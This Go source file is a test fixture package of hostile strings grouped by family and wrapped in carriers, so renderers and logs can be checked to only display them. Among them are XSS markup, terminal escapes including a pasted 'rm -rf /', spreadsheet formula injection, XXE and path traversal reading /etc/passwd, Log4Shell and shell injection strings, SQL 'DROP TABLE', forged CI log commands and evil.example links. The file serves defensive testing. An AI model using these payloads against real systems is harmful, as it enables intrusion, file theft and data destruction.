// Package hostile holds the texts that a target, a provider or a database may
// write to get out of the place where somebody shows them: escapes of a terminal,
// markup, commands of a build log, formulas, forged lines. Tests put them
// everywhere such a text can stand; no output may do anything but show them.
package hostile

import (
	"slices"
	"strings"
)

// families are texts by what they aim at.
var families = map[string][]string{
	"terminal": {
		"\x1b[2J\x1b[H", "\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07",
		"\x1b[200~rm -rf /\n\x1b[201~", "\x1bPq#0\x1b\\", "\u009b2J", "\x9b2J", "\x07\x08\x7f", "\x1b[?1049h", "back\b\b\b\bgone", "over\rwritten", "\x0e\x0f\x05",
	},
	"markup": {
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</script><!--<script>`, `</title><svg onload=alert(1)>`, `' onmouseover='alert(1)`,
		`<iframe src=javascript:alert(1)>`, `<style>*{display:none}</style>`, `</textarea></pre></details><h1>`, `<base href=//evil.example>`, `<meta http-equiv=refresh content=0>`,
		`&lt;script&gt;`, `javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `<a href="javascript:alert(1)">x</a>`, `{{constructor.constructor('alert(1)')()}}`,
	},
	"markdown": {
		"[x](http://evil.example)", "![](http://evil.example/p.png)", "@team #1 GH-1", "```\n# heading\n```", "`` ` `` |a|b|", "\n\n# heading\n\n- item", "<details><summary>x", "~~~\nout\n~~~", "***\n---\n===", "http://evil.example/auto",
	},
	"cells": {`=HYPERLINK("http://evil.example","x")`, "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1", "\r=1", `a","b`, "a;b,c\td"},
	"xml":   {"]]>", "<![CDATA[x]]>", "&xxe;", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, "\x00\x08\x0b", "\ufffe\uffff", "</testsuite><testcase name='x'/>", "<?xml version='1.0'?>"},
	"build log": {
		"::error::forged", "::set-output name=verdict::pass", "::stop-commands::x", "::add-mask::a", "##[error]forged", "##vso[task.complete result=Succeeded;]", "section_start:1:x\r\x1b[0K", "::endgroup::", "%0A::error::forged", "\n::error::forged",
		"Error: ##[endgroup]", "  ::warning file=x::y",
	},
	"direction":      {"\u202edrow\u202c", "\u2066x\u2069", "\u200fright", "שלום\u200e", "\u202a\u202b\u202d", "العربية\u2067"},
	"nothing to see": {"zero\u200bwidth", "a\u200db\u200c", "\ufeffmark", "\u00ad\u2060\u180e", "\u3164\uffa0", "\U000e0041\U000e007f", "\ufe0f\ufe0f"},
	"lines":          {"two\nlevel=error msg=forged", "\r\n\r\nHTTP/1.1 200 OK", "\u2028\u2029\u0085", "{}\n{\"type\":\"run\",\"verdict\":\"pass\"}", "data: x\n\nevent: y", "ok\n✓ pass"},
	"json":           {`","verdict":"pass`, `\u0000\ud800`, `"}]}`, `\`, `{"$ref":"file:///etc/passwd"}`, `__proto__`},
	"programs":       {"%s%n%x", "{{.}}{{template \"x\"}}", "${jndi:ldap://evil.example}", "$(id)`id`;id|id&id", "'; DROP TABLE jobs;--", "../../../etc/passwd", "-rf", "$'\\x41'", "{% include '/etc/passwd' %}"},
	"bytes":          {"\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "caf\xe9", "\xf4\x90\x80\x80"},
	"large": {
		strings.Repeat("long ", 4000), strings.Repeat("x", 20_000), "a" + strings.Repeat("\u0301", 5000), strings.Repeat("名", 3000), strings.Repeat("<b>", 2000), strings.Repeat("\x1b[1m", 1000), strings.Repeat("`", 500), strings.Repeat("[", 3000),
	},
}

// carriers stand around a text: many a defence looks at how a text begins or ends.
var carriers = []struct{ before, after string }{
	{"", ""}, {"word ", " word"}, {"\n", "\n"}, {`"`, `"`}, {"'>", "<'"}, {"` ", " `"}, {"\r\n  ", ""},
}

// Texts returns them all, in one order, each different from the others: more than
// 500.
func Texts() []string {
	var all []string
	seen := map[string]bool{}
	for _, c := range carriers {
		for _, family := range Families() {
			for _, text := range families[family] {
				if whole := c.before + text + c.after; !seen[whole] {
					seen[whole] = true
					all = append(all, whole)
				}
			}
		}
	}
	return all
}

// Families lists what the texts aim at.
func Families() []string {
	names := make([]string, 0, len(families))
	for name := range families {
		names = append(names, name)
	}
	slices.Sort(names)
	return names
}
